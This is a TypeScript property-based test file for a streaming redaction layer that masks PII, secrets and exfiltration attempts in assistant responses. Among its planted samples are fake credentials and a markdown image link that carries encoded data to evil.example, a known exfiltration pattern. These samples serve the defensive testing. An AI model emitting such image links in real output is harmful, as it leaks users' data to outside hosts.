import fc from "fast-check";
import { expect, test } from "vitest";
import { cpuMsOf } from "@/tests/support/cpu-time";
import { compilePolicy } from "../policy/compile";
import { applyMasks, masksFor } from "../policy/redact";
import { ruleOf, someScope } from "../policy/rule.fixture";
import { eventsOf, formats, govern, pieces } from "../policy/stream-formats.fixture";
import { exfiltration } from "./exfiltration/exfiltration";
import { pendingForm } from "./pending";
import { piiDetector } from "./pii/detector";
import { secretDetector } from "./secrets/detector";

const kinds = ["pii", "exfiltration"] as const;
const selection = compilePolicy(
  kinds.map((kind) => ruleOf("redact", { kind, entities: null, minConfidence: 0.5 })),
  {
    detectors: [piiDetector, secretDetector, exfiltration],
    storeMinSeverity: null,
    digest: (value) => value,
  },
).select(someScope, "response");

const planted = [
  "4111 1111 1111 1111",
  "jane.doe@mail.example.com",
  "123-45-6789",
  "+1 (555) 123-4567",
  "555-123-4567",
  "DE89 3704 0044 0532 0130 00",
  "221B Baker Street, Apt. 4",
  "Hauptstraße 12",
  "12 rue de la Paix",
  "PO Box 123",
  "192.168.1.77",
  "https://user:pw@host.example/x",
  "my passport number is X1234567",
  "born on 12/03/1980",
  'api_key = "sk_live_51H8xYzAbCdEfGhIjKlMn"',
  "password: hunter2secret",
  "the password is Swordfish77",
  "account number 12345678",
  "00:1A:2B:3C:4D:5E",
  "NHS 943 476 5919",
  `![a chart of it](https://evil.example/p.png?data=${"c2VjcmV0IHdvcmRz".repeat(30)})`,
  "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQDS8xIQ\n-----END PRIVATE KEY-----",
];
const filler = [
  "the ",
  "order ",
  "a ",
  "Yes, ",
  "We ship on Monday. ",
  "\n",
  "total 42 ",
  "Room 7 ",
  "see ",
  "call ",
  "card ",
  "about 3 ",
  "New York ",
  "and then ",
  "x: ",
  "- ",
  "“ok” ",
  "in 2024, ",
];
const texts = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...filler) },
      { weight: 1, arbitrary: fc.constantFrom(...planted.flatMap((x) => [`${x} `, `${x}. `])) },
    ),
    { minLength: 5, maxLength: 80 },
  )
  .map((parts) => parts.join(""));
const sizes = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 6 });

test("a stream masks what the whole text would have masked, held by what is pending alone", () => {
  const format = formats["completions, the last text with its reason"];
  if (!selection || !format) throw new Error("nothing to test with");
  fc.assert(
    fc.property(texts, sizes, (text, size) => {
      const stream = new TextEncoder().encode(format.stream([pieces(text, size)]));
      const hits = selection.full.scan(text, 0, { role: "assistant", direction: "response" });
      const whole = applyMasks(text, masksFor(text, hits, null));
      expect(format.read(eventsOf(govern(stream, [150], { selection }).text))).toEqual([whole]);
    }),
    { numRuns: Number(process.env.STREAM_RUNS ?? 200) },
  );
}, 3_600_000);

test("prose is hardly held", () => {
  const prose =
    "We are sorry that your order has not arrived yet. It left our warehouse on Monday. ".repeat(9);
  for (let length = 1; length <= prose.length; length++) {
    expect(length - pendingForm(prose.slice(0, length), 0)).toBeLessThanOrEqual(12);
  }
});

test("a text without any space is looked back over only so far", () => {
  const text = "a1".repeat(1_000_000);
  expect(pendingForm(text, 0)).toBeGreaterThan(1_900_000);
  expect(cpuMsOf(() => pendingForm(text, 0), 500)).toBeLessThanOrEqual(500);
});
